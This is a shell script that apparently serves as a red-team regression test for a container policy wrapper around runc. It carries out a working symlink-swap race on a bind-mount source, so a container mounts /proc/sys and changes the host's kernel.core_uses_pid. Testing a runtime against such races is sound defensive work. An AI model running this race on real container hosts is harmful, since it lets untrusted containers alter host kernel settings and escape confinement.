#!/bin/sh
# found-11: the same second /proc/sys as found-10, on the default layout
# where the root filesystem lies in a sensitive subtree (here $W/docker,
# made sensitive and given an allowed_roots pattern exactly as the
# shipped policy treats /var/lib/docker/overlay2/*/merged, with Docker's
# record naming the layer each container's own). The static
# judgement refuses a bind of <root>/proc/sys; the bind source is a link
# in a host directory another of the user's containers writes, flipped
# between an allowed directory and <root>/proc/sys. When the judgement
# sees the allowed one and runc's mount the other, only the check after
# create stands between, and it passes the mount: a proc instance the
# host has not mounted is read as the container's own filesystem. This is
# the "bind source retargeted between the judgement and runc's mount"
# the README says the check after create refuses. With Docker the merged
# directory is known from `docker inspect` after `docker create`, before
# `docker start` runs create. Engine path: create, then start.
# RACE=0 (what tests/integration/redteam.sh runs) makes the divergence
# deterministic: the policy's runtime is a wrapper that retargets the
# link after the judgement and then execs runc, the interleaving the
# race wins; otherwise TRIES runs of the race itself.
# Exit 0: the host sysctl changed; 1: refused every time.
. "$(dirname "$0")/lib.sh"
policy "
p['mounts']['sensitive_subtrees'].append(w+'/docker')
p['mounts']['allowed_roots'].append(w+'/docker/overlay2/*/merged')
if '${RACE:-1}' == '0': p['runtime']=w+'/flip-runc'
"
B=$W/bundle
M=$W/docker/overlay2/l1/merged
mkdir -p "$W/shared/ok" "$M"
orig=$(cat /proc/sys/kernel/core_uses_pid)
new=$((1 - orig))
bundle "$B" "
c['root']['path']=w+'/docker/overlay2/l1/merged'
c['mounts'].append({'destination':'/mnt','type':'bind','source':w+'/shared/link','options':['rbind','rw']})
c['process']['args']=['sh','-c','echo $new > /mnt/kernel/core_uses_pid; echo rc=\$? > /out/done']
"
cp -a "$B/rootfs/." "$M/"; rm -rf "$B/rootfs"
mkdir -p "$M/proc/sys"
ln -s "$W/shared/ok" "$W/shared/link"
# the other container: flip the link for ever (rename over it, atomic)
cat > "$W/flip.py" <<'PY'
import os,sys
d,t=sys.argv[1:]
a,b=d+'/ok',t
i=0
while True:
    tmp=d+'/.t'
    try: os.unlink(tmp)
    except FileNotFoundError: pass
    os.symlink(a if i%2 else b, tmp); os.replace(tmp, d+'/link'); i+=1
PY
if [ "${RACE:-1}" = 0 ]; then
  printf '#!/bin/sh\nln -sfn %s %s\nexec runc "$@"\n' "$M/proc/sys" "$W/shared/link" > "$W/flip-runc"
  chmod 755 "$W/flip-runc"; TRIES=1; flip=
else
  /usr/bin/python3 "$W/flip.py" "$W/shared" "$M/proc/sys" < /dev/null &
  flip=$!
fi
R=$W/runc
id=
cleanup () {
  [ -n "$flip" ] && kill $flip 2>/dev/null
  echo "$orig" > /proc/sys/kernel/core_uses_pid
  [ -n "$id" ] && runc --root "$R" delete -f "$id" 2>/dev/null
}
static=0; live=0; missed=0
for n in $(seq 1 ${TRIES:-150}); do
  id=rt11-$$-$n
  mkdir -p "$W/docker/image/overlay2/layerdb/mounts/$id" \
    && printf l1 > "$W/docker/image/overlay2/layerdb/mounts/$id/mount-id"
  [ "${RACE:-1}" = 0 ] && ln -sfn "$W/shared/ok" "$W/shared/link"
  rm -f "$W/out/done"
  CONFINE_POLICY=$W/policy.json "$BUILD/confine-runtime" --root "$R" --log "$W/log.json" --log-format json \
    create --bundle "$B" --pid-file "$W/pid" "$id" < /dev/null > "$W/create.out" 2>&1
  if grep -q 'deleted after create' "$W/create.out"; then live=$((live+1)); [ "${RACE:-1}" = 0 ] && cat "$W/create.out"; continue; fi
  if grep -q 'confine: refused' "$W/create.out"; then static=$((static+1)); continue; fi
  CONFINE_POLICY=$W/policy.json "$BUILD/confine-runtime" --root "$R" start "$id" < /dev/null
  i=0; while [ ! -e "$W/out/done" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
  runc --root "$R" delete -f "$id" 2>/dev/null
  if [ "$(cat /proc/sys/kernel/core_uses_pid)" = "$new" ]; then
    echo "ATTACK WORKED on try $n ($static refused by the judgement, $live by the check after create, $missed ran with the allowed directory): the container set the host's kernel.core_uses_pid from $orig to $new"
    grep "\"id\":\"$id\"" "$W/decisions.log" | grep -o "\"mounts\":{[^}]*}" | head -1
    exit 0
  fi
  missed=$((missed+1)); [ -n "${DEBUG:-}" ] && { cat "$W/create.out"; cat "$W/out/done"; }
done
echo "refused: $static by the judgement, $live by the check after create; $missed ran with the allowed directory"
exit 1
